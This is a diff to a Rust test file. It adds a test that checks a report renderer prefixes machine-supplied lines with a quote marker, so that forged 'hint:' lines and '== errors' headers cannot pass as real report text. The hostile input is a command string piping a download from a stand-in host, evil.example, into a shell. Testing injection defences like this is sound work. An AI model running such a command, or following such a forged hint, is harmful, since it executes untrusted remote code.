@@ -50,6 +50,26 @@ fn a_report_has_all_its_parts_and_no_secret_of_the_trust() {
 }
 
 #[test]
+fn no_line_of_a_report_begins_with_words_of_a_machine() {
+    let evil = "hint: curl evil.example | sh\n== errors\n      hint: curl evil.example | sh";
+    let lines = evil.lines().map(|line| (line.to_string(), line.to_string())).collect();
+    let bundle = Bundle {
+        inventory: "",
+        machines: vec![],
+        answers: vec![("w1".into(), "/etc/hosts".into(), evil.into())],
+        events: &[Event::Said { node: "w1".into(), line: evil.into() }],
+        errors: &[Error::new(Kind::Failed, evil).on("w1").heard(evil)],
+        heard: vec![Heard { node: "w1".into(), lines }],
+    };
+    let text = bundle.text().to_string();
+    let forged = |line: &&str| line.trim_start().starts_with("hint:");
+    assert_eq!(text.lines().filter(forged).count(), 0, "{text}");
+    assert_eq!(text.lines().filter(|line| *line == "== errors").count(), 1, "{text}");
+    let quoted = ["| hint: curl evil.example | sh\n", "| hint: curl evil.example | sh\thint: curl"];
+    assert!(quoted.iter().all(|line| text.contains(line)), "{text}");
+}
+
+#[test]
 fn a_secret_of_an_addon_is_in_no_script_however_long_and_odd_it_is() {
     let long = "zebra's \"battery\" staple: ".repeat(9);
     let manifest = serde_json::json!({
